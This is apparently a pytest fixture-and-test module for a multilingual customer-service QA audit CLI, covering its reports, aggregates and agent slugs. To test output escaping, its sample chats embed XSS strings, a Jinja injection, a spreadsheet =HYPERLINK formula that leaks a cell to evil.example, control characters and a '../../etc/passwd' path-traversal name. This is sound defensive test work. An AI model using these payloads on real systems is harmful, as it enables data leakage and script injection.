"""Report inputs built by the tests themselves (EN + DE, four agents, four weeks, hostile text),
the real CLI run on them once per session, and tests of the aggregates the reports read.

The other report test modules import `report_run` / `audit_data` from here.
"""

from __future__ import annotations

import json
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from qa_audit.aggregate import aggregate, slugify, unique_slugs

SCRIPT = "<script>alert(1)</script>"
SCRIPT_TITLE = "<script>document.title='pwned'</script>"
ONERROR = '"><img src=x onerror="document.body.setAttribute(\'data-pwned\',\'1\')">'
JINJA = "{{ 7*7 }}"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here for your refund")'

# The known finding the tests look for (Grace O'Neill, en-t-001).
KNOWN_AGENT = "Grace O'Neill"
KNOWN_CONVERSATION = "en-t-001"
KNOWN_EVIDENCE = "I understand how frustrating"


def _msg(role: str, author: str, text: str, ts: str | None = None, **extra) -> dict:
    m = {"role": role, "author": author, "text": text}
    if ts:
        m["timestamp"] = ts
    m.update(extra)
    return m


def _chat(cid: str, agent: str, customer: str, language: str, day: str, turns: list[tuple[str, str]],
          channel: str = "chat", tz: str = "+01:00") -> dict:
    messages = []
    for i, (role, text) in enumerate(turns):
        ts = f"{day}T10:{i * 2:02d}:00{tz}"
        messages.append(_msg(role, agent if role == "agent" else customer, text, ts))
    return {"id": cid, "channel": channel, "language": language, "agent": agent,
            "started_at": f"{day}T10:00:00{tz}", "messages": messages}


def english_conversations() -> list[dict]:
    g, s = KNOWN_AGENT, "Sam Lee"
    return [
        _chat("en-t-001", g, "Priya Nair", "en", "2026-11-02", [
            ("customer", "Hi, my blender order #B-2201 arrived with a cracked jug and I'm really upset about it."),
            ("agent", "I understand how frustrating this is. I'll send you a replacement jug by Friday."),
            ("customer", "Thank you, Friday works for me."),
        ], tz="+00:00"),
        _chat("en-t-002", g, "Oliver Grant", "en", "2026-11-10", [
            ("customer", f"Your checkout page just shows {SCRIPT} {SCRIPT_TITLE} and I can't pay for order #C-3302!!"),
            ("agent", "That's our policy, rules are rules. We will look into it soon."),
            ("customer", "That is not an answer at all, I want to pay for my kettle."),
        ], tz="+00:00"),
        _chat("en-t-003", g, "Hannah Price", "en", "2026-11-17", [
            ("customer", "The courier left my toaster parcel #D-4403 in the rain and the box is soaked."),
            ("agent", "I'm so sorry that happened. I'll arrange a new toaster and it will be with you by Monday."),
        ], tz="+00:00"),
        _chat("en-t-004", g, "Lucas Moreau", "en", "2026-11-24", [
            ("customer", "Where is the refund for my returned headphones #E-5504? I'm really disappointed."),
            ("agent", "Like I said, refunds take time. We will get back to you soon."),
            ("customer", "Calm down? I did not even raise my voice about the headphones."),
        ], tz="+00:00"),
        _chat("en-t-101", s, "Frank Turner", "en", "2026-11-03", [
            ("customer", "I want my money back for the broken lawnmower #F-6605, it never started once."),
            ("customer", HYPERLINK),
            ("agent", "As I already explained, you'll have to contact the manufacturer about the lawnmower."),
            ("customer", "Hello\x07? Is anyone there\x1b? This is a warranty case for the lawnmower."),
            ("agent", "I'll take care of it myself and I'll call you back tomorrow about the warranty."),
        ], channel="email", tz="+00:00"),
        _chat("en-t-102", s, "Julia Stone", "en", "2026-11-18", [
            ("customer", "The smart bulb pack #G-7706 I bought flickers constantly, it is driving me mad!!"),
            ("agent", "It's not our fault, you should have read the terms about the bulb firmware."),
        ], channel="email", tz="+00:00"),
    ]


def german_conversations() -> list[dict]:
    a, t = "Anna Weber", "Tobias Král"
    convs = [
        _chat("de-t-001", a, "Max Kunde", "de", "2026-11-04", [
            ("customer", "Mein Kinderwagen (Bestellung 48213) ist immer noch nicht da, ich bin echt verärgert!"),
            ("agent", "Es tut mir wirklich leid, dass das passiert ist. Ich kümmere mich persönlich darum und "
                      "schicke Ihnen die Sendungsnummer bis Freitag."),
        ]),
        _chat("de-t-002", a, "Erika Muster", "de", "2026-11-11", [
            ("customer", f"Mein Name ist {ONERROR} und {JINJA} – warum kommt die Waschmaschine 7741 nicht?"),
            ("agent", "Das ist unsere Richtlinie. Wir melden uns."),
            ("customer", "Das hilft mir bei der Waschmaschine überhaupt nicht weiter."),
        ]),
        _chat("de-t-003", a, "Jan Becker", "de", "2026-11-25", [
            ("customer", "Die Rechnung für den Staubsauger 9931 ist doppelt abgebucht worden."),
            ("agent", "Ich verstehe, dass das ärgerlich ist. Ich erstatte Ihnen den doppelten Betrag bis morgen."),
        ]),
    ]
    # a timed call with a real overlap: the agent starts 1.5 s before the customer has finished
    convs.append({
        "id": "de-t-101", "channel": "call", "language": "de", "agent": t, "started_at": "2026-11-05T14:00:00+01:00",
        "messages": [
            _msg("agent", t, "Guten Tag, Kundenservice Stadtwerke, mein Name ist Tobias Král.", start=0.0, end=3.0),
            _msg("customer", "Petra Lang", "Guten Tag, mein Stromzähler 55-1234 zeigt seit Wochen völlig falsche "
                 "Werte an und niemand ruft mich zurück, das ist wirklich", start=3.5, end=11.0),
            _msg("agent", t, "Das kann nicht sein, der Zähler wurde erst letztes Jahr geprüft.", start=9.5, end=13.0),
            _msg("customer", "Petra Lang", "Lassen Sie mich bitte ausreden!", start=13.2, end=14.5),
            _msg("agent", t, "Da kann ich nichts machen, wenden Sie sich an den Netzbetreiber.", start=15.0, end=18.0),
        ]})
    convs.append(_chat("de-t-102", t, "Uwe Roth", "de", "2026-11-19", [
        ("customer", "Meine Abschlagszahlung für die Wohnung Lindenstraße wurde falsch berechnet."),
        ("agent", "Ich kümmere mich darum und melde mich bis Donnerstag mit der Korrektur."),
    ]))
    return convs


@dataclass
class ReportRun:
    inputs: Path
    out: Path
    conversations: dict[str, dict] = field(default_factory=dict)
    stdout: str = ""

    def agent_of(self, cid: str) -> str:
        return self.conversations[cid]["agent"]

    def texts_of_other_agents(self, agent: str) -> list[str]:
        """Distinctive message texts (and ids, names) of every other agent's conversations."""
        out = []
        for cid, conv in self.conversations.items():
            if conv["agent"] == agent:
                continue
            out.append(cid)
            out.append(conv["agent"])
            for m in conv["messages"]:
                if len(m["text"]) >= 25 and not m["text"].startswith(("=", "<")):
                    out.append(m["text"][:40])
        return out


def write_inputs(folder: Path) -> dict[str, dict]:
    folder.mkdir(parents=True, exist_ok=True)
    en, de = english_conversations(), german_conversations()
    (folder / "chats-en.jsonl").write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in en),
                                           encoding="utf-8")
    lines = [json.dumps(c, ensure_ascii=False) for c in de]
    lines.insert(2, '{"id": "de-broken", "messages": [')  # a broken record: rejected, never lost
    (folder / "chats-de.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return {c["id"]: c for c in en + de}


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "qa_audit.cli", *args], capture_output=True, text=True,
                          timeout=600)


@pytest.fixture(scope="session")
def report_run(tmp_path_factory) -> ReportRun:
    """The real CLI on the test inputs, with every format and --split-by-agent."""
    base = tmp_path_factory.mktemp("report")
    run = ReportRun(inputs=base / "inputs", out=base / "out")
    run.conversations = write_inputs(run.inputs)
    proc = run_cli("run", str(run.inputs), "--out", str(run.out), "--split-by-agent",
                   "--report-title", "Coaching <b>W45–W48</b> & more", "--quiet")
    assert proc.returncode == 0, proc.stderr
    run.stdout = proc.stdout
    return run


@pytest.fixture(scope="session")
def audit_data(tmp_path_factory):
    """RunData from run_audit in-process (no report formats), for direct writer tests."""
    from qa_audit.ingest.base import IngestOptions
    from qa_audit.rubric.loader import load_rubric
    from qa_audit.run import run_audit

    base = tmp_path_factory.mktemp("audit")
    write_inputs(base / "inputs")
    return run_audit([base / "inputs"], base / "out", load_rubric(None), IngestOptions(), formats={"jsonl"})


# ----- tests of the aggregates ---------------------------------------------------------------
def test_outputs_written(report_run):
    out = report_run.out
    for name in ("qa-report.xlsx", "index.html", "findings.jsonl", "manifest.json", "rejected.jsonl"):
        assert (out / name).is_file(), name
    agents = {"Anna Weber", "Grace O'Neill", "Sam Lee", "Tobias Král"}
    slugs = unique_slugs(sorted(agents))
    for agent in agents:
        assert (out / "agents" / f"{slugs[agent]}.html").is_file()
        assert (out / "agents" / f"{slugs[agent]}.xlsx").is_file()
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["counts"]["rejected"] == 1
    assert manifest["timings_seconds"]["reports"] >= 0
    assert "qa-report.xlsx" in manifest["outputs"] and "index.html" in manifest["outputs"]


def test_known_findings_fire(audit_data):
    """Guards the fixtures: the detectors the report tests rely on still fire on them."""
    checks = {(f.conversation_id, f.check) for f in audit_data.findings}
    assert (KNOWN_CONVERSATION, "empathy") in checks
    assert (KNOWN_CONVERSATION, "promised_timeline") in checks
    assert ("en-t-002", "defensive_language") in checks
    assert ("de-t-002", "defensive_language") in checks
    assert ("de-t-101", "interruption") in checks
    assert any(f.evidence == KNOWN_EVIDENCE for f in audit_data.findings if f.conversation_id == KNOWN_CONVERSATION)


def test_aggregates_shape_and_order(audit_data):
    agg = aggregate(audit_data)
    assert agg.agent_names == ["Anna Weber", "Grace O'Neill", "Sam Lee", "Tobias Král"]
    assert list(agg.agents["slug"]) == ["anna-weber", "grace-o-neill", "sam-lee", "tobias-kral"]
    assert len(agg.conversations) == 11 and len(agg.rejected) == 1
    assert len(agg.findings) == len(audit_data.findings)
    # findings: grouped by agent, then date, conversation, message
    keys = [(a.casefold(), t, c, m) for a, t, c, m in agg.findings[["agent", "started_at", "conversation_id",
                                                                   "message_index"]].itertuples(index=False)]
    assert keys == sorted(keys)
    assert agg.multi_week and len(agg.weeks) == 4
    grace = agg.trend[agg.trend["agent"] == KNOWN_AGENT]
    assert list(grace["week_label"]) == ["2026-W45", "2026-W46", "2026-W47", "2026-W48"]
    # promises ledger: resolved due dates first, ascending
    due = [d for d in agg.promises["due_date"] if d is not None]
    assert due == sorted(due) and len(due) >= 3
    first = agg.findings[(agg.findings["conversation_id"] == KNOWN_CONVERSATION)
                         & (agg.findings["check"] == "promised_timeline")].iloc[0]
    assert first["due_date"].isoformat() == "2026-11-06"  # "by Friday" said on Monday 2 November
    # the interruption keeps its overlap
    inter = agg.findings[agg.findings["check"] == "interruption"].iloc[0]
    assert inter["overlap_seconds"] == pytest.approx(1.5)
    # same input, same frames
    again = aggregate(audit_data)
    for name in ("conversations", "agents", "agent_criteria", "promises", "review", "trend"):
        assert getattr(agg, name).equals(getattr(again, name)), name
    assert list(agg.findings["conversation_id"]) == list(again.findings["conversation_id"])


def test_review_queue_reasons(audit_data):
    agg = aggregate(audit_data)
    review = agg.review
    assert not review.empty and (review["reason"] != "").all()
    sam = review[review["conversation_id"] == "en-t-101"]
    assert len(sam) == 1 and "conflicting findings: ownership and deflection" in sam.iloc[0]["reason"]
    assert any("lowest scores" in r for r in review["reason"])


def test_for_agent_has_only_that_agent(audit_data):
    agg = aggregate(audit_data)
    one = agg.for_agent("Sam Lee")
    for name in ("conversations", "findings", "agents", "agent_criteria", "promises", "review", "trend"):
        frame = getattr(one, name)
        assert set(frame["agent"]) <= {"Sam Lee"}, name
    assert one.rejected.empty and one.scope == "Sam Lee"
    text = repr(one.run_info)
    for other in ("Anna Weber", "Grace O'Neill", "Tobias Král", "chats-de.jsonl"):
        assert other not in text


def test_coaching_points_and_strengths(audit_data):
    agg = aggregate(audit_data)
    points = agg.coaching_points(KNOWN_AGENT)
    assert 1 <= len(points) <= 3
    counts = [p["count"] for p in points]
    assert counts == sorted(counts, reverse=True)
    for p in points:
        assert 1 <= len(p["examples"]) <= 3
        assert all(e["agent"] == KNOWN_AGENT and e["polarity"] == "negative" for e in p["examples"])
    strengths = agg.strengths(KNOWN_AGENT)
    assert "empathy" in {s["check"] for s in strengths}


def test_slugs_safe_and_unique():
    assert slugify("Sabine Krüger") == "sabine-krueger"
    assert slugify("Tobias Král") == "tobias-kral"
    assert slugify("Mehmet Yılmaz") == "mehmet-yilmaz"
    assert slugify("../../etc/passwd") == "etc-passwd"
    assert slugify("CON") == "con-agent"
    assert slugify("王芳").startswith("agent-")
    slugs = unique_slugs(["Anna Weber", "anna weber", "Anna-Weber", "王芳", "李娜"])
    assert len(set(slugs.values())) == 5
    for slug in slugs.values():
        assert slug and all(c.isascii() and (c.isalnum() or c == "-") for c in slug)
